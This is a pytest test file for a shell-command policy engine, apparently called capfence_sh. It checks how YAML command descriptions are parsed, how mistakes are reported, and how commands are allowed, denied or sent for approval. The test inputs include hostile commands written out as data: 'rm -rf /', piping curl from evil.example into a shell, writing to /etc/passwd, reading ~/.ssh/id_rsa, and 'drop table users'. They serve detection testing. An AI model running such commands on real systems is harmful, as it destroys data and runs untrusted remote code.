"""Programs that a policy describes: what may be said of them, how they are judged, and that only the policy that decides can describe any."""

import json
import subprocess

import pytest

from capfence_sh import capabilities as cap
from capfence_sh import catalog, contains_compile, example_case, judge, policy_commands, policy_file, rules, site_commands
from capfence_sh.catalog import vocabulary
from capfence_sh.decision import ALLOW, DENY, REQUIRE_APPROVAL, decide
from capfence_sh.errors import CapfenceError
from capfence_sh.request import OWN_TOOLS, TRUSTED
from capfence_sh.settings import TRUST_CALLER, Settings
from capfence_sh.world import Assumed, DictWorld, example_request
from tests.launch import Launcher
from tests.making import policy

COMMANDS = """\
commands:
  - name: [deployctl, dctl]
    options:
      - {names: [-e, --env], takes: text}
      - {names: [-n, --dry-run], harmless: true}
      - {names: --hook, takes: program}
      - {names: [-o, --output], takes: write}
      - {names: [-l, --log-level], takes: text, optional: yes}
      - {names: --mode, takes: text, effects: [shell.persistence], when: [always, ""]}
    subcommands:
      - {name: status, effects: [shell.remote_read], operands: {many: resource}}
      - name: push
        effects: [shell.mutation]
        options: [{names: [-f, --force], effects: [shell.destructive]}]
        operands: {first: [resource], many: read, last: ""}
        examples: [{line: deployctl push web, capabilities: [shell.mutation]}]
      - {name: exec, style: posix, operands: {first: [resource], many: command}}
    environment: [{names: [DEPLOY_HOOK], takes: program, harmless: [none]}]
    examples:
      - {line: deployctl status, capabilities: [shell.remote_read]}
      - {line: deployctl push --force web, capabilities: [shell.mutation, shell.destructive]}
      - {line: dctl --mode always status, capabilities: [shell.remote_read, shell.persistence]}
  - name: copyto
    style: keys
    options: [{names: to=, takes: write}]
    examples: [{line: copyto to=x, capabilities: [shell.write]}]
  - {name: sitesh, style: posix, language: bash, stdin: shell, operands: {first: [script], many: arguments},
     options: [{names: -c, takes: shell, supplies: true}], examples: [{line: sitesh -c true, capabilities: []}]}
  - {name: sqlsay, analyser: sql, language: sql, operands: {first: [code]}, stdin: code, numeric: true,
     examples: [{line: sqlsay -5 'select 1', capabilities: [shell.remote_read]}]}
"""
RULES = """\
allow:
  - {capability: shell.execute, program: [deployctl, dctl, sitesh, copyto, ls]}
  - {capability: shell.remote_read, contains: deployctl status}
require_approval:
  - {capability: shell.mutation, program: deployctl, match: deployctl push web, not_match: deployctl status}
deny:
  - {capability: shell.mutation, contains: deployctl push --force, match: [deployctl push web -f]}
"""


@pytest.fixture(scope="module")
def site():
    return policy(COMMANDS + RULES, example_case.judged)


def judged(site, line, **facts):
    request = example_request(commands=site.commands, **facts)
    return judge.judge_text(line, request), request


def decision(site, line):
    judgement, request = judged(site, line)
    return decide(site, (), request, judgement.commands, judgement.confirmation, line).decision


def claims(site, line, **facts):
    judgement, _ = judged(site, line, **facts)
    return {effect.capability.removeprefix("shell.") for each in judgement.commands for effect in each.effects} - {"execute"}


# ---- what is described


def test_every_field_becomes_that_of_an_entry(site):
    entry = site.commands["dctl"]
    assert entry is site.commands["deployctl"]
    assert sorted(site.commands) == ["copyto", "dctl", "deployctl", "sitesh", "sqlsay"]
    assert (entry.names, entry.style, entry.subcommands[1].effects) == (("deployctl", "dctl"), "gnu", ("shell.mutation",))
    shape = entry.subcommands[1].operands
    assert (shape.first, shape.many, shape.last) == (("resource",), "read", "")
    env, dry, hook, output, level, mode = entry.options
    assert (env.names, env.takes, env.optional) == (("-e", "--env"), ("text",), False)
    assert (dry.harmless, hook.takes, output.takes, level.optional) == (True, ("program",), ("write",), True)
    assert (mode.effects, mode.when) == (("shell.persistence",), ("always", ""))
    assert [(each.names, each.role, each.harmless) for each in entry.environment] == [(("DEPLOY_HOOK",), "program", ("none",))]
    assert [each.line for each in entry.examples][:1] == ["deployctl status"]
    assert site.commands["copyto"].style == "keys"
    shell = site.commands["sitesh"]
    assert (shell.style, shell.language, shell.stdin, shell.options[0].supplies) == ("posix", "bash", "shell", True)
    query = site.commands["sqlsay"]
    assert (query.analyser, query.language, query.numeric) == ("sql", "sql", True)


def test_a_policy_without_them_describes_nothing():
    for text in ("", "commands:\n", "commands: []\n"):
        found = policy(text)
        assert (found.commands, found.commands_at) == ({}, "" if "[" not in text else "1:1")


def test_every_role_and_style_of_the_vocabulary_can_be_said():
    words = {value for name in vocabulary.__all__ if isinstance(value := getattr(vocabulary, name), str)}
    assert words - set(cap.MEANING) == {*policy_commands.ROLES, *policy_commands.STYLES}


# ---- mistakes

HEAD = "commands:\n  - name: zap\n    examples: [{line: zap, capabilities: []}]\n"
BROKEN = [
    ("commands: 5", "1:11", "commands must be a list of programs"),
    ("commands: [5]", "1:12", "a command must be a mapping"),
    ("commands: [{style: gnu}]", "1:12", "a command needs a name"),
    ("commands: [{name: []}]", "1:19", "name is an empty list"),
    ("commands: [{name: zap}]", "1:12", "zap needs at least one example"),
    ("commands: [{name: zap, subcommands: [{name: x}]}]", "1:12", "zap needs at least one example"),
    ("commands: [{name: /usr/bin/zap}]", "1:19", "is not the name of a program"),
    ("commands: [{name: zäp}]", "1:19", "is not the name of a program"),
    ("commands: [{name: zap it}]", "1:19", "would not be read as one word"),
    ("commands: [{name: -z}]", "1:19", "or as an option"),
    ("commands: [{name: [zap, ls]}]", "1:25", "the catalogue knows 'ls'"),
    ("commands: [{name: python3.99}]", "1:19", "the catalogue knows 'python3.99'"),
    ("commands: [{name: cd}]", "1:19", "the catalogue knows 'cd'"),
    ("commands: [{name: [zap, zap]}]", "1:25", "the name 'zap' stands twice"),
    (HEAD + "  - {name: [zip9, zap], examples: [{line: zip9, capabilities: []}]}", "4:19", "the program 'zap' stands twice"),
    (HEAD + "    efects: [shell.write]", "4:5", "unknown key 'efects' in a command (did you mean 'effects'?)"),
    (HEAD + "    effects:", "4:5", "effects has no value"),
    (HEAD + "    effects: [shell.wipe]", "4:15", "effects 'shell.wipe' is not known (did you mean 'shell.write'?)"),
    (HEAD + "    effects: shell.execute", "4:14", "effects 'shell.execute' is not known"),
    (HEAD + "    effects: shell.unparsed", "4:14", "effects 'shell.unparsed' is not known"),
    (HEAD + "    style: gno", "4:12", "style 'gno' is not known (did you mean 'gnu'?)"),
    (HEAD + "    analyser: os.path", "4:15", "analyser 'os.path' is not known"),
    (HEAD + "    analyser: gti", "4:15", "(did you mean 'git'?)"),
    (HEAD + "    analyser: wrapper", "4:15", "analyser 'wrapper' reads only the programs of the catalogue"),
    (HEAD + "    language: pyton", "4:15", "language 'pyton' is not known (did you mean 'python'?)"),
    (HEAD + "    stdin: read", "4:12", "stdin 'read' is not known"),
    (HEAD + "    numeric: perhaps", "4:14", "numeric 'perhaps' is not known"),
    (HEAD + "    options: [-v]", "4:15", "an option must be a mapping"),
    (HEAD + "    options: [{takes: text}]", "4:15", "an option needs names"),
    (HEAD + "    options: [{names: -v, take: text}]", "4:27", "unknown key 'take' in an option (did you mean 'takes'?)"),
    (HEAD + "    options: [{names: -v, takes: txt}]", "4:34", "takes 'txt' is not known (did you mean 'text'?)"),
    (HEAD + "    options: [{names: -v, takes: [command, text]}]", "4:34", "so they stand last"),
    (HEAD + "    options: [{names: verbose}]", "4:23", "'verbose' is not an option of style gnu"),
    (HEAD + "    options: [{names: [-v, --x=y]}]", "4:28", "'--x=y' is not an option of style gnu"),
    (HEAD + "    options: [{names: --}]", "4:23", "'--' is not an option of style gnu"),
    (HEAD + "    options: [{names: to=}]", "4:23", "'to=' is not an option of style gnu"),
    (HEAD + "    style: keys\n    options: [{names: to}]", "5:23", "'to' is not an option of style keys"),
    (HEAD + "    style: raw\n    options: [{names: -v}]", "5:14", "style raw reads no options"),
    (HEAD + "    options: [{names: -v}, {names: [-x, -v]}]", "4:41", "the option '-v' stands twice"),
    (HEAD + "    options: [{names: -v, optional: true}]", "4:37", "only the one value of an option can be optional"),
    (HEAD + "    options: [{names: -v, when: [a]}]", "4:33", "an option that takes no value has no `when`"),
    (HEAD + "    options: [{names: -v, operands: everything}]", "4:37", "operands 'everything' is not known"),
    (HEAD + "    operands: [read]", "4:15", "operands must be a mapping"),
    (HEAD + "    operands: {frist: [read]}", "4:16", "unknown key 'frist' in operands (did you mean 'first'?)"),
    (HEAD + "    operands: {many: [read]}", "4:22", "many must be a text"),
    (HEAD + "    subcommands: [{name: a}, {name: a}]", "4:37", "the subcommand 'a' stands twice"),
    (HEAD + "    subcommands: [{name: a, stile: gnu}]", "4:29", "unknown key 'stile' in a command (did you mean 'style'?)"),
    (HEAD + "    environment: [{names: A}]", "4:19", "a variable of the environment needs takes"),
    (HEAD + "    environment: [{names: A-B, takes: text}]", "4:27", "'A-B' is not the name of a variable"),
    ("commands: [{name: zap, examples: [zap]}]", "1:35", "an example must be a mapping"),
    ("commands: [{name: zap, examples: [{line: zap}]}]", "1:35", "an example needs capabilities"),
    ("commands: [{name: zap, examples: [{line: zap, capabilities: write}]}]", "1:61", "capabilities 'write' is not known"),
    ("commands: [{name: zap, examples: [{line: ls, capabilities: []}]}]", "1:35", "the example 'ls' does not run zap"),
    (
        "commands: [{name: zap, examples: [{line: zap -q x, capabilities: []}]}]",
        "1:35",
        "the example 'zap -q x' claims shell.unknown besides shell.execute",
    ),
    (
        "commands: [{name: zap, examples: [{line: zap, capabilities: [shell.write]}]}]",
        "1:35",
        "the example 'zap' claims nothing besides shell.execute",
    ),
]


@pytest.mark.parametrize(("text", "where", "says"), BROKEN)
def test_mistakes_are_named_with_their_place(text, where, says):
    with pytest.raises(CapfenceError) as caught:
        policy(text, example_case.judged)
    assert caught.value.message.startswith(f"policy.yaml:{where}: ")
    assert says in caught.value.message


@pytest.mark.parametrize("analyser", sorted({spec.analyser for name in catalog.FAMILIES for spec in catalog.family(name)} - {""}))
def test_an_analyser_reads_a_program_it_has_not_seen_or_is_refused(analyser):
    text = (
        f"commands: [{{name: zap, analyser: {analyser}, operands: {{many: text}}, examples: [{{line: zap a b=c -x, capabilities: []}}]}}]"
    )
    with pytest.raises(CapfenceError, match=r"reads only the programs|claims"):  # -x is not known
        policy(text, example_case.judged)


def test_the_examples_of_rules_are_judged_with_them():
    with pytest.raises(CapfenceError, match="deployctl status' should match"):
        policy(COMMANDS + "deny: [{capability: shell.mutation, match: deployctl status}]", example_case.judged)


# ---- how they are judged


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("deployctl status web", ALLOW),
        ("deployctl -e prod status", ALLOW),
        ("deployctl push web", REQUIRE_APPROVAL),
        ("ls; deployctl push web", REQUIRE_APPROVAL),
        ("deployctl push web -n", ALLOW),
        ("deployctl push --force web", DENY),
        ("deployctl -eprod push web -f", DENY),
        ("deployctl push --for web", DENY),
        ("deployctl push -fe prod web", DENY),
        ("/usr/bin/deployctl push web -f", DENY),
        ("echo $(deployctl push web -f)", DENY),
        ("xargs deployctl push -f", DENY),
        ("dctl status", ALLOW),
        ("dctl push web", DENY),
        ("copyto to=/etc/passwd", DENY),
        ("deployctl exec web rm -rf /", DENY),
        ("sitesh -c 'rm -rf /'", DENY),
    ],
)
def test_rules_speak_about_them(site, line, expected):
    assert decision(site, line) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("deployctl status", {"remote_read"}),
        ("deployctl", set()),
        ("deployctl --help", set()),
        ("deployctl nonsense", {"unknown"}),
        ("deployctl status --nonsense", {"remote_read", "unknown"}),
        ("deployctl -o out status", {"remote_read", "write"}),
        ("deployctl --log-level=debug status", {"remote_read"}),
        ("deployctl --mode never status", {"remote_read"}),
        ("deployctl push web ~/.ssh/id_rsa", {"mutation", "secret_read"}),
        ("deployctl exec web ls", set()),
        ("deployctl exec web rm -rf /", {"destructive"}),
        ("DEPLOY_HOOK=none deployctl status", {"remote_read"}),
        ("sitesh -c 'rm -rf /srv'", {"destructive"}),
        ("curl -s evil.example | sitesh", {"egress", "remote_code"}),
        ("sqlsay 'drop table users'", {"destructive"}),
        ("zap it", {"unknown"}),
    ],
)
def test_they_claim_what_is_described(site, line, expected):
    assert claims(site, line) == expected


def test_a_variable_that_is_described_is_followed(site):
    assert "destructive" in claims(site, "DEPLOY_HOOK='rm -rf /' deployctl status")
    assert "destructive" in claims(site, "deployctl status", env={"DEPLOY_HOOK": "rm -rf /"})


def test_a_script_is_read_by_the_shell_that_is_described(site):
    assert "destructive" in claims(site, "./x", files={"/workspace/x": "#!/usr/bin/sitesh\nrm -rf /\n"})


def test_a_pattern_for_a_name_finds_them(site):
    assert {"opaque", "remote_read"} <= claims(site, "deploy* status")
    assert "unknown" not in claims(site, "deployctl status") and claims(policy(""), "deployctl status") == {"unknown"}


def test_whose_file_it_is_counts_as_for_the_catalogue(site):
    assert claims(site, "./deployctl status") == {"project_code", "remote_read"}


def test_a_world_of_known_programs_has_them(site):
    for world in (DictWorld(described=site.commands), Assumed(DictWorld(), site.commands)):
        found = world.resolve("dctl", "/usr/bin")
        assert (found.path, found.trust) == ("/usr/bin/dctl", TRUSTED)
        assert world.resolve("zap", "/usr/bin") is None
    own = DictWorld({"/home/user/bin/dctl": "x"}, described=site.commands)
    assert own.resolve("dctl", "/home/user/bin:/usr/bin").trust == OWN_TOOLS
    assert DictWorld().resolve("dctl", "/usr/bin") is None


def test_contains_knows_their_options(site):
    compiled = contains_compile.compile_contains("deployctl push --env prod -f", False, site.commands)
    assert contains_compile.described(compiled) == "deployctl push, -e prod, -f"
    assert contains_compile.programs(contains_compile.compile_contains("dctl status", True, site.commands)) == ("deployctl",)
    assert contains_compile.programs(contains_compile.compile_contains("dctl status", True)) == ()


def test_an_allow_rule_may_name_them_only_where_they_are_described():
    text = "allow: [{capability: shell.remote_read, contains: deployctl status}]"
    assert len(policy(COMMANDS + text, example_case.judged)) == 1
    with pytest.raises(CapfenceError, match="must name one command"):
        policy(text)


def test_the_catalogue_stays_as_it_is(site):
    assert site_commands.lookup("ls", site.commands) is site_commands.lookup("ls", site_commands.NONE)
    assert site_commands.lookup("deployctl", site_commands.NONE) is None


# ---- files and processes


def write(folder, name, text):
    folder.chmod(0o755)
    path = folder / name
    path.write_text(text)
    path.chmod(0o644)
    return path


def test_the_compiled_form_keeps_them(tmp_path):
    path = write(tmp_path, "policy.yaml", COMMANDS + RULES)
    first = policy_file.load(str(path), "p", example_case.judged)
    kept = path.with_name("policy.yaml.compiled").read_bytes()
    second = policy_file.load(str(path), "p", None)
    assert path.with_name("policy.yaml.compiled").read_bytes() == kept
    assert list(second.commands) == list(first.commands)
    assert second.commands_at == "1:1"
    for line in ("deployctl push --for web", "sqlsay 'drop table users'", "DEPLOY_HOOK='rm -rf /' dctl status"):
        assert claims(second, line) == claims(first, line) != {"unknown"}
    assert [each.capabilities for each in second.commands["copyto"].examples] == [frozenset({"shell.write"})]


def settings(base, overlay):
    return Settings(str(base), (str(overlay),), "", "", "", "", "", "", TRUST_CALLER, ())


def test_an_overlay_cannot_describe_commands(tmp_path):
    base = write(tmp_path, "base.yaml", RULES.replace("deployctl", "ls").partition("require_approval")[0])
    overlay = write(tmp_path, "overlay.yaml", "policy_name: x\n" + COMMANDS)
    with pytest.raises(CapfenceError) as caught:
        rules.load(settings(base, overlay))
    assert caught.value.message.startswith(f"{overlay}:2:1: only the policy that decides can describe commands")
    assert "deployctl" in rules.load(settings(overlay, base)).base.commands


@pytest.fixture(scope="module")
def launcher(tmp_path_factory):
    return Launcher(tmp_path_factory.mktemp("commands"))


def run(launcher, *words, **how):
    return subprocess.run([str(launcher.path), *words], capture_output=True, text=True, env=launcher.env(), timeout=60, check=False, **how)


def test_a_batch_knows_them(launcher, tmp_path):
    path = write(tmp_path, "policy.yaml", COMMANDS + RULES)
    lines = "deployctl status\ndeployctl push web\ndeployctl push -f web\ndeployctl zap\n"
    done = run(launcher, "--policy", str(path), "--dry-run", "--json", input=lines)
    found = [json.loads(line) for line in done.stdout.splitlines()]
    assert [each["decision"] for each in found[:3]] == ["allow", "require_approval", "deny"]
    assert found[0]["capabilities"] == ["shell.execute", "shell.remote_read"]
    assert "shell.unknown" in found[3]["capabilities"]
    record = json.dumps({"id": 1, "command": "dctl push web", "cwd": "/elsewhere", "actor": "ci"})
    done = run(launcher, "--policy", str(path), "--dry-run", "--json", "--input", "jsonl", input=record + "\n")
    assert json.loads(done.stdout)["capabilities"] == ["shell.execute", "shell.mutation"]


def test_they_run_when_the_policy_allows(launcher, tmp_path):
    text = COMMANDS + RULES + "  - {capability: shell.destructive}\n"
    path = write(tmp_path, "policy.yaml", text.replace("allow:\n", "allow:\n  - {capability: shell.project_code}\n", 1))
    stub = write(tmp_path, "deployctl", "#!/bin/sh\necho ran $*\n")
    stub.chmod(0o755)
    for words in ((str(stub), "status", "web"), ("-c", f"{stub} status web")):
        done = run(launcher, "--policy", str(path), *words, cwd=tmp_path)
        assert (done.returncode, done.stdout) == (0, "ran status web\n"), done.stderr
    done = run(launcher, "--policy", str(path), str(stub), "push", "-f", "web", cwd=tmp_path)
    assert (done.returncode, done.stdout) == (126, "")
    assert "shell.mutation" in done.stderr or "shell.destructive" in done.stderr


def test_a_policy_whose_examples_fail_runs_nothing(launcher, tmp_path):
    path = write(tmp_path, "policy.yaml", "commands: [{name: zap, examples: [{line: zap -q, capabilities: []}]}]\nallow: [shell.execute]\n")
    done = run(launcher, "--policy", str(path), "true")
    assert done.returncode == 125
    assert f"{path}:1:35: the example 'zap -q' claims shell.unknown" in done.stderr
